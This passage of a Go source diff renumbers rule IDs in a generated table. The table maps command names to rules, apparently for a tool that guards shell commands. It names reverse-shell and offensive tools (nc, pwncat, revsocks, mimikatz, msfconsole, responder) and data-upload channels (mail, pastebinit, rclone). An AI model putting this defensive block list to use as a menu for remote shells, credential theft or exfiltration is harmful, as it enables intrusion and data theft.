 				Name:    "lint-staged",
@@ -13243,7 +13308,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "live-server",
 				Program: 45,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "ll",
@@ -13283,7 +13348,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "localtunnel",
 				Program: 45,
-				Rules:   []uint16{299, 300},
+				Rules:   []uint16{302, 303},
 			},
 			nameEntry{
 				Name:    "locate",
@@ -13305,12 +13370,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "loginctl",
 				Program: 64,
-				Rules:   []uint16{341, 346},
+				Rules:   []uint16{344, 349},
 			},
 			nameEntry{
 				Name:    "logoff",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name: "logout",
@@ -13326,7 +13391,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "losetup",
 				Program: 64,
-				Rules:   []uint16{237, 351},
+				Rules:   []uint16{237, 354},
 			},
 			nameEntry{
 				Name:    "lpass",
@@ -13336,7 +13401,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ls",
 				Program: 7,
-				Rules:   []uint16{15, 343},
+				Rules:   []uint16{15, 346},
 			},
 			nameEntry{
 				Name:    "lsattr",
@@ -13357,7 +13422,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lsd",
 				Program: 7,
-				Rules:   []uint16{343},
+				Rules:   []uint16{346},
 			},
 			nameEntry{
 				Name:    "lsmod",
@@ -13383,7 +13448,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lt",
 				Program: 45,
-				Rules:   []uint16{299, 300},
+				Rules:   []uint16{302, 303},
 			},
 			nameEntry{
 				Name:    "ltrace",
@@ -13404,7 +13469,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "luarocks",
 				Program: 44,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "luigi",
@@ -13461,7 +13526,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "machinectl",
 				Program: -1,
-				Rules:   []uint16{333},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "madge",
@@ -13479,12 +13544,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "magic-wormhole",
 				Program: 56,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "magic-wormhole.js",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "magick",
@@ -13493,12 +13558,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mail",
 				Program: -1,
-				Rules:   []uint16{299, 308, 310},
+				Rules:   []uint16{302, 311, 313},
 			},
 			nameEntry{
 				Name:    "mailx",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "make",
@@ -13541,7 +13606,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "masscan",
 				Program: 55,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "mate",
@@ -13562,7 +13627,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mc",
 				Program: 61,
-				Rules:   []uint16{141, 142, 298, 308},
+				Rules:   []uint16{141, 142, 301, 311},
 			},
 			nameEntry{
 				Name:    "md5",
@@ -13659,7 +13724,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mimikatz",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "mina",
@@ -13678,7 +13743,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "miniserve",
 				Program: -1,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "minitest",
@@ -13691,7 +13756,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mise",
 				Program: 44,
-				Rules:   []uint16{106, 332},
+				Rules:   []uint16{106, 335},
 			},
 			nameEntry{
 				Name:    "mitmdump",
@@ -13704,12 +13769,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mix",
 				Program: 48,
-				Rules:   []uint16{109, 112, 303, 304},
+				Rules:   []uint16{109, 112, 306, 307},
 			},
 			nameEntry{
 				Name:    "mkcert",
 				Program: 64,
-				Rules:   []uint16{363},
+				Rules:   []uint16{366},
 			},
 			nameEntry{
 				Name:    "mkdir",
@@ -13736,7 +13801,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mkinitcpio",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "mkswap",
@@ -13779,7 +13844,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "modprobe",
 				Program: 64,
-				Rules:   []uint16{338},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "mods",
@@ -13792,7 +13857,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mokutil",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "mongo",
@@ -13844,7 +13909,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mosh",
 				Program: 56,
-				Rules:   []uint16{344},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "most",
@@ -13853,7 +13918,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mount",
 				Program: 64,
-				Rules:   []uint16{351, 368, 369},
+				Rules:   []uint16{354, 371, 372},
 			},
 			nameEntry{
 				Name:    "mrsk",
@@ -13866,12 +13931,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "msbuild.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "msfconsole",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "msfvenom",
@@ -13881,27 +13946,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mshta",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "mshta.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "msiexec",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "msiexec.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "msmtp",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "mssql-cli",
@@ -13924,7 +13989,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mutt",
 				Program: -1,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "mv",
@@ -13934,12 +13999,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mvn",
 				Program: 33,
-				Rules:   []uint16{113, 303},
+				Rules:   []uint16{113, 306},
 			},
 			nameEntry{
 				Name:    "mvnw",
 				Program: 33,
-				Rules:   []uint16{113, 303},
+				Rules:   []uint16{113, 306},
 			},
 			nameEntry{
 				Name:    "mycli",
@@ -14006,27 +14071,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nbtscan",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "nc",
 				Program: 55,
-				Rules:   []uint16{124, 290, 310},
+				Rules:   []uint16{124, 293, 313},
 			},
 			nameEntry{
 				Name:    "nc.openbsd",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "nc.traditional",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "ncat",
 				Program: 55,
-				Rules:   []uint16{124, 290, 310},
+				Rules:   []uint16{124, 293, 313},
 			},
 			nameEntry{
 				Name:    "ncdu",
@@ -14039,7 +14104,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ncftpput",
 				Program: -1,
-				Rules:   []uint16{308, 309},
+				Rules:   []uint16{311, 312},
 			},
 			nameEntry{
 				Name:    "neato",
@@ -14081,22 +14146,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nerdctl",
 				Program: 62,
-				Rules:   []uint16{39, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 305},
+				Rules:   []uint16{39, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 308},
 			},
 			nameEntry{
 				Name:    "net",
 				Program: 64,
-				Rules:   []uint16{337, 342, 379},
+				Rules:   []uint16{340, 345, 382},
 			},
 			nameEntry{
 				Name:    "net.exe",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "netcat",
 				Program: 55,
-				Rules:   []uint16{124, 290},
+				Rules:   []uint16{124, 293},
 			},
 			nameEntry{
 				Name:    "netexec",
@@ -14116,7 +14181,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "netsh",
 				Program: -1,
-				Rules:   []uint16{349, 379},
+				Rules:   []uint16{352, 382},
 			},
 			nameEntry{
 				Name:    "netstat",
@@ -14125,12 +14190,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "networksetup",
 				Program: 55,
-				Rules:   []uint16{350, 382},
+				Rules:   []uint16{353, 385},
 			},
 			nameEntry{
 				Name:    "newgrp",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "newrelic",
@@ -14139,7 +14204,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "newusers",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "next",
@@ -14148,7 +14213,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nft",
 				Program: 64,
-				Rules:   []uint16{349},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "ng",
@@ -14161,7 +14226,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ngrok",
 				Program: 45,
-				Rules:   []uint16{156, 300},
+				Rules:   []uint16{156, 303},
 			},
 			nameEntry{
 				Name:    "nhost",
@@ -14184,7 +14249,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nikto",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "nim",
@@ -14206,7 +14271,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nix",
 				Program: 32,
-				Rules:   []uint16{314},
+				Rules:   []uint16{317},
 			},
 			nameEntry{
 				Name:    "nix-build",
@@ -14223,12 +14288,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nix-env",
 				Program: 44,
-				Rules:   []uint16{386},
+				Rules:   []uint16{389},
 			},
 			nameEntry{
 				Name:    "nix-shell",
 				Program: 32,
-				Rules:   []uint16{314},
+				Rules:   []uint16{317},
 			},
 			nameEntry{
 				Name:    "nixos-rebuild",
@@ -14245,17 +14310,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nmap",
 				Program: 55,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "nmcli",
 				Program: 55,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "node",
 				Program: 45,
-				Rules:   []uint16{319, 320},
+				Rules:   []uint16{322, 323},
 			},
 			nameEntry{
 				Name:    "node-pg-migrate",
@@ -14291,7 +14356,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nopaste",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "northflank",
@@ -14327,12 +14392,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "np",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "npm",
 				Program: 38,
-				Rules:   []uint16{18, 31, 40, 106, 107, 303, 304, 314, 315, 324},
+				Rules:   []uint16{18, 31, 40, 106, 107, 306, 307, 317, 318, 327},
 			},
 			nameEntry{
 				Name:    "npm-run-all",
@@ -14345,7 +14410,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "npx",
 				Program: 40,
-				Rules:   []uint16{303, 311, 314, 318},
+				Rules:   []uint16{306, 314, 317, 321},
 			},
 			nameEntry{
 				Name:    "nr",
@@ -14355,12 +14420,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nsenter",
 				Program: 62,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "nslookup",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "ntl",
@@ -14370,12 +14435,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ntpdate",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "nuget",
 				Program: 34,
-				Rules:   []uint16{303, 304},
+				Rules:   []uint16{306, 307},
 			},
 			nameEntry{
 				Name:    "numfmt",
@@ -14405,7 +14470,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nvram",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "nwipe",
@@ -14415,7 +14480,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nx",
 				Program: 32,
-				Rules:   []uint16{106, 303},
+				Rules:   []uint16{106, 306},
 			},
 			nameEntry{
 				Name:    "nyc",
@@ -14494,12 +14559,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "opencode",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "openhands",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "openssl",
@@ -14522,7 +14587,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oras",
 				Program: 62,
-				Rules:   []uint16{39, 305, 306},
+				Rules:   []uint16{39, 308, 309},
 			},
 			nameEntry{
 				Name:    "orb",
@@ -14536,7 +14601,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "osascript",
 				Program: 47,
-				Rules:   []uint16{355, 385},
+				Rules:   []uint16{358, 388},
 			},
 			nameEntry{
 				Name:    "otool",
@@ -14545,7 +14610,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "overmind",
 				Program: 45,
-				Rules:   []uint16{378},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "ovhai",
@@ -14555,7 +14620,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ovsx",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "oxlint",
@@ -14564,7 +14629,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "p4",
 				Program: -1,
-				Rules:   []uint16{275, 276},
+				Rules:   []uint16{278, 279},
 			},
 			nameEntry{
 				Name:    "pa11y",
@@ -14582,7 +14647,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pacman",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 			nameEntry{
 				Name:    "pagerduty",
@@ -14626,7 +14691,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "passwd",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "paste",
@@ -14635,7 +14700,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pastebinit",
 				Program: -1,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "patch",
@@ -14662,7 +14727,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pbpaste",
 				Program: 64,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "pct",
@@ -14688,7 +14753,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pdm",
 				Program: 42,
-				Rules:   []uint16{106, 303},
+				Rules:   []uint16{106, 306},
 			},
 			nameEntry{
 				Name:    "pdsh",
@@ -14710,7 +14775,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "perl",
 				Program: 46,
-				Rules:   []uint16{319, 320},
+				Rules:   []uint16{322, 323},
 			},
 			nameEntry{
 				Name:    "pest",
@@ -14719,7 +14784,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pfctl",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{351},
 			},
 			nameEntry{
 				Name:    "pg_archivecleanup",
@@ -14737,7 +14802,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pg_ctl",
 				Program: 58,
-				Rules:   []uint16{117, 342},
+				Rules:   []uint16{117, 345},
 			},
 			nameEntry{
 				Name:    "pg_ctlcluster",
@@ -14823,7 +14888,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "php",
 				Program: 45,
-				Rules:   []uint16{109, 110, 113, 311, 319, 320},
+				Rules:   []uint16{109, 110, 113, 314, 322, 323},
 			},
 			nameEntry{
 				Name:    "php-cs-fixer",
@@ -14868,7 +14933,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ping",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "ping6",
@@ -14877,7 +14942,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pinggy",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "pint",
@@ -14886,7 +14951,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip",
 				Program: 41,
-				Rules:   []uint16{314, 315, 324},
+				Rules:   []uint16{317, 318, 327},
 			},
 			nameEntry{
 				Name:    "pip2",
@@ -14895,7 +14960,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip3",
 				Program: 41,
-				Rules:   []uint16{314, 315, 324},
+				Rules:   []uint16{317, 318, 327},
 			},
 			nameEntry{
 				Name:    "pipenv",
@@ -14904,7 +14969,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pipx",
 				Program: 40,
-				Rules:   []uint16{314, 318},
+				Rules:   []uint16{317, 321},
 			},
 			nameEntry{
 				Name:    "pixi",
@@ -14913,12 +14978,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkexec",
 				Program: 64,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "pkg",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 			nameEntry{
 				Name:    "pkg_add",
@@ -14927,12 +14992,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkill",
 				Program: 63,
-				Rules:   []uint16{339, 341, 342, 345, 395, 397},
+				Rules:   []uint16{342, 344, 345, 348, 398, 400},
 			},
 			nameEntry{
 				Name:    "plandex",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "planetscale",
@@ -14959,7 +15024,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "plink",
 				Program: -1,
-				Rules:   []uint16{301},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "plocate",
@@ -14972,12 +15037,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pm2",
 				Program: 45,
-				Rules:   []uint16{17, 331, 357, 378},
+				Rules:   []uint16{17, 334, 360, 381},
 			},
 			nameEntry{
 				Name:    "pm2-kill",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "pmap",
@@ -14986,7 +15051,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pmset",
 				Program: 64,
-				Rules:   []uint16{346},
+				Rules:   []uint16{349},
 			},
 			nameEntry{
 				Name:    "pngquant",
@@ -14995,22 +15060,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pnpm",
 				Program: 39,
-				Rules:   []uint16{31, 102, 103, 104, 105, 106, 107, 109, 110, 113, 131, 158, 159, 303, 304, 314, 315, 324},
+				Rules:   []uint16{31, 102, 103, 104, 105, 106, 107, 109, 110, 113, 131, 158, 159, 306, 307, 317, 318, 327},
 			},
 			nameEntry{
 				Name:    "pnpx",
 				Program: 40,
-				Rules:   []uint16{318},
+				Rules:   []uint16{321},
 			},
 			nameEntry{
 				Name:    "pod",
 				Program: 44,
-				Rules:   []uint16{303, 304},
+				Rules:   []uint16{306, 307},
 			},
 			nameEntry{
 				Name:    "podman",
 				Program: 62,
-				Rules:   []uint16{39, 40, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 305},
+				Rules:   []uint16{39, 40, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 308},
 			},
 			nameEntry{
 				Name:    "podman-compose",
@@ -15025,7 +15090,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "poetry",
 				Program: 42,
-				Rules:   []uint16{303, 315, 324},
+				Rules:   []uint16{306, 318, 327},
 			},
 			nameEntry{
 				Name: "popd",
@@ -15033,7 +15098,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "port",
 				Program: 44,
-				Rules:   []uint16{386},
+				Rules:   []uint16{389},
 			},
 			nameEntry{
 				Name:    "porter",
@@ -15047,17 +15112,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "poweroff",
 				Program: 64,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{349, 350},
 			},
 			nameEntry{
 				Name:    "powershell",
 				Program: 4,
-				Rules:   []uint16{323},
+				Rules:   []uint16{326},
 			},
 			nameEntry{
 				Name:    "powershell.exe",
 				Program: -1,
-				Rules:   []uint16{323},
+				Rules:   []uint16{326},
 			},
 			nameEntry{
 				Name:    "pr",
@@ -15107,7 +15172,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "profiles",
 				Program: -1,
-				Rules:   []uint16{385},
+				Rules:   []uint16{388},
 			},
 			nameEntry{
 				Name:    "promptfoo",
@@ -15158,7 +15223,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "psexec",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "psql",
@@ -15232,17 +15297,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pwncat",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "pwsh",
 				Program: 4,
-				Rules:   []uint16{323},
+				Rules:   []uint16{326},
 			},
 			nameEntry{
 				Name:    "pwsh.exe",
 				Program: -1,
-				Rules:   []uint16{323},
+				Rules:   []uint16{326},
 			},
 			nameEntry{
 				Name:    "py.test",
@@ -15275,7 +15340,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pypi-cleanup",
 				Program: -1,
-				Rules:   []uint16{304},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "pypy",
@@ -15305,17 +15370,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "python",
 				Program: 45,
-				Rules:   []uint16{109, 111, 113, 311, 319, 320},
+				Rules:   []uint16{109, 111, 113, 314, 322, 323},
 			},
 			nameEntry{
 				Name:    "python2",
 				Program: 45,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "python3",
 				Program: 45,
-				Rules:   []uint16{109, 111, 113, 311, 319, 320},
+				Rules:   []uint16{109, 111, 113, 314, 322, 323},
 			},
 			nameEntry{
 				Name:    "pyupgrade",
@@ -15324,7 +15389,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "q",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "qdrant",
@@ -15364,7 +15429,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "qwen",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "rabbitmqadmin",
@@ -15412,7 +15477,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rbash",
 				Program: -1,
-				Rules:   []uint16{365},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "rbenv",
@@ -15426,17 +15491,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rc-service",
 				Program: 64,
-				Rules:   []uint16{342, 357},
+				Rules:   []uint16{345, 360},
 			},
 			nameEntry{
 				Name:    "rc-update",
 				Program: -1,
-				Rules:   []uint16{331},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "rclone",
 				Program: 57,
-				Rules:   []uint16{141, 142, 196, 298, 308, 308, 310},
+				Rules:   []uint16{141, 142, 196, 301, 311, 311, 313},
 			},
 			nameEntry{
 				Name:    "rd",
@@ -15478,7 +15543,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reboot",
 				Program: 64,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{349, 350},
 			},
 			nameEntry{
 				Name:    "redis-cli",
@@ -15496,32 +15561,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reg",
 				Program: 64,
-				Rules:   []uint16{44, 380},
+				Rules:   []uint16{44, 383},
 			},
 			nameEntry{
 				Name:    "reg.exe",
 				Program: -1,
-				Rules:   []uint16{44, 380},
+				Rules:   []uint16{44, 383},
 			},
 			nameEntry{
 				Name:    "regasm",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "regctl",
 				Program: 62,
-				Rules:   []uint16{305, 306},
+				Rules:   []uint16{308, 309},
 			},
 			nameEntry{
 				Name:    "regsvr32",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "regsvr32.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "reindexdb",
@@ -15530,7 +15595,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "release-it",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "remix",
@@ -15560,7 +15625,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reposurgeon",
 				Program: -1,
-				Rules:   []uint16{269},
+				Rules:   []uint16{270},
 			},
 			nameEntry{
 				Name: "reset",
@@ -15572,17 +15637,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "resolvectl",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "responder",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "restart-computer",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "restic",
@@ -15592,22 +15657,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "restrain",
 				Program: 66,
-				Rules:   []uint16{391},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "restrain-bash",
 				Program: -1,
-				Rules:   []uint16{391},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "restrain-canary",
 				Program: -1,
-				Rules:   []uint16{392},
+				Rules:   []uint16{395},
 			},
 			nameEntry{
 				Name:    "restrain-zsh",
 				Program: -1,
-				Rules:   []uint16{391},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name: "return",
@@ -15627,7 +15692,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "revsocks",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "rg",
@@ -15692,7 +15757,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rockcraft",
 				Program: 32,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "rollup",
@@ -15701,7 +15766,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "roo",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "rosa",
@@ -15711,7 +15776,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "route",
 				Program: 55,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "rpk",
@@ -15721,7 +15786,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rpm",
 				Program: 44,
-				Rules:   []uint16{314, 362, 386},
+				Rules:   []uint16{317, 365, 389},
 			},
 			nameEntry{
 				Name:    "rqlite",
@@ -15730,7 +15795,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rsend",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "rsnapshot",
@@ -15757,7 +15822,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ruby",
 				Program: 45,
-				Rules:   []uint16{311, 319, 320},
+				Rules:   []uint16{314, 322, 323},
 			},
 			nameEntry{
 				Name:    "ruff",
@@ -15766,22 +15831,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "run0",
 				Program: -1,
-				Rules:   []uint16{367},
